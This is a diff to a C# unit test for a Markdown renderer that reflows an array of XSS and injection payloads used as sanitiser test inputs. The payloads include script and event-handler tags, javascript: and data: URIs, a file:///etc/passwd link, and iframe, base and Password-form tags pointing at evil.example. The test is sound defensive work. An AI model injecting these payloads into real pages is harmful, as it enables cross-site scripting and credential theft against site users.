@@ -12,12 +12,18 @@ public sealed class MarkdownTextTests : ComponentTest
 
     private static readonly string[] Attacks =
     [
-        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<style>*{display:none}</style>", "<a href=\"javascript:alert(1)\">x</a>",
-        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](\u0001javascript:alert(1))",
-        "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example/)", "[x](/staff/logout)", "<javascript:alert(1)>",
-        "[x]: javascript:alert(1)\n\n[x]", "![x](https://evil.example/pixel.png)", "![x](javascript:alert(1))", "![x](x \"onerror=alert(1)\")", "[x](https://a.example/\" onclick=\"alert(1))",
-        "[x](https://a.example/ '\" onclick=\"alert(1)')", "```\" onclick=\"alert(1)\nx\n```", "```notice style\nx\n```", "# x {onclick=alert(1)}", "x {style=\"color:red\"}", "<!-- x --><b>", "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "<iframe src=//evil.example>", "<form action=//evil.example><input name=Password>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "*x<script*>", "[![x](javascript:a)](javascript:b)", "\0<script>\0", "<x@evil.example>",
+        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<style>*{display:none}</style>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))",
+        "[x](<javascript:alert(1)>)", "[x](\u0001javascript:alert(1))",
+        "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example/)", "[x](/staff/logout)",
+        "<javascript:alert(1)>",
+        "[x]: javascript:alert(1)\n\n[x]", "![x](https://evil.example/pixel.png)", "![x](javascript:alert(1))", "![x](x \"onerror=alert(1)\")",
+        "[x](https://a.example/\" onclick=\"alert(1))",
+        "[x](https://a.example/ '\" onclick=\"alert(1)')", "```\" onclick=\"alert(1)\nx\n```", "```notice style\nx\n```", "# x {onclick=alert(1)}",
+        "x {style=\"color:red\"}", "<!-- x --><b>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<iframe src=//evil.example>", "<form action=//evil.example><input name=Password>", "<base href=//evil.example>",
+        "<meta http-equiv=refresh content=0>", "*x<script*>", "[![x](javascript:a)](javascript:b)", "\0<script>\0", "<x@evil.example>",
     ];
 
     [Theory]
